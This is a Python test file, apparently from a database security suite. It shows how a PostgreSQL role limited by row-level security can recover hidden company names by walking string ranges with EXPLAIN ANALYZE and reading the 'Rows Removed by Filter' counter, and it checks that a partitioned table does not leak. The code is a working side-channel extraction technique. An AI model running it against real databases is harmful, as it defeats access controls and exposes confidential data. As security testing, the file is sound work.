"""A walk with EXPLAIN ANALYZE: ranges become smaller until the counter has told a hidden value."""

from __future__ import annotations

import re
import string
from dataclasses import dataclass, field

from psycopg import sql

from tests.attacks.attacker import Attacker
from tests.attacks.stage import Stage

LETTERS = string.ascii_lowercase
COMPANIES = {"BY": ("isarwerk", "donaubau", "lechtal"), "HH": ("hafenamt", "alstertor", "elbufer")}
"""The territories are those of `tests.fixtures.small_crm`: anna reads HH, and not BY."""

FILLED = """
create schema ledger;
create table ledger.whole (territory text not null, company text collate "C" not null);
create table ledger.divided (like ledger.whole) partition by list (territory);
create table ledger.north partition of ledger.divided for values in ('HH', 'SH');
create table ledger.south partition of ledger.divided for values in ('BY', 'BW');
create index on ledger.whole (company);
create index on ledger.divided (company);
"""


@dataclass(slots=True)
class Walk:
    """What an attacker reads from the counters of a column that has an index and a leakproof comparison."""

    attacker: Attacker
    table: str
    found: list[str] = field(default_factory=list)
    statements: int = 0

    def removed(self, first: str, behind: str) -> int:
        """Return how many hidden rows have a company from `first` to before `behind`."""
        self.statements += 1
        query = (
            "explain (analyze, costs off, timing off, summary off) "
            f"select from {self.table} where company >= '{first}' and company < '{behind}'"
        )
        lines = self.attacker.run(query).column
        counted = (re.search(r"Rows Removed by Filter: (\d+)", str(line)) for line in lines)
        return sum(int(found[1]) for found in counted if found)

    def read(self, prefix: str = "") -> list[str]:
        """Read every hidden company that begins so."""
        left = self.removed(prefix, prefix + "~")
        if left and self.removed(prefix + "\x01", prefix + "~") < left:
            self.found.append(prefix)
            left -= 1
        for letter in LETTERS if left else "":
            self.read(prefix + letter)
        return self.found


def ledger(stage: Stage) -> Attacker:
    """Make two tables, of which one is partitioned by the field, with the policy of anna's group by hand."""
    with stage.owner() as owner:
        owner.execute(FILLED)
        for table in ("whole", "divided"):
            name = sql.Identifier("ledger", table)
            for territory, companies in COMPANIES.items():
                for company in companies:
                    insert = sql.SQL("insert into {} values (%s, %s)")
                    owner.execute(insert.format(name), (territory, company))
            role = sql.Identifier(stage.names.group_role("nord"))
            for statement in (
                "alter table {name} enable row level security",
                "create policy nord on {name} to {role} using (territory = any ('{{HH,SH}}'))",
                "grant select on {name} to {role}",
            ):
                owner.execute(sql.SQL(statement).format(name=name, role=role))
        owner.execute(
            sql.SQL("grant usage on schema ledger to {}").format(
                sql.Identifier(stage.names.group_role("nord"))
            )
        )
    anna = stage.attacker("anna")
    for setting in ("enable_seqscan", "enable_bitmapscan"):
        anna.run(f"set {setting} = off")
    assert anna.run("select count(*) from ledger.whole").column == [len(COMPANIES["HH"])]
    assert anna.run("select count(*) from ledger.divided").column == [len(COMPANIES["HH"])]
    return anna


def test_a78_residual_a_walk_over_ranges_reads_hidden_values(fresh: Stage) -> None:
    walk = Walk(ledger(fresh), "ledger.whole")
    assert sorted(walk.read()) == sorted(COMPANIES["BY"])


def test_a78_hidden_partitions_are_not_read_and_not_counted(fresh: Stage) -> None:
    """The condition of the policy is a constant, so the planner leaves the hidden partition out."""
    anna = ledger(fresh)
    walk = Walk(anna, "ledger.divided")
    assert walk.read() == []
    plan = "\n".join(map(str, anna.run("explain select from ledger.divided where company >= 'a'").column))
    assert "north" in plan
    assert "south" not in plan
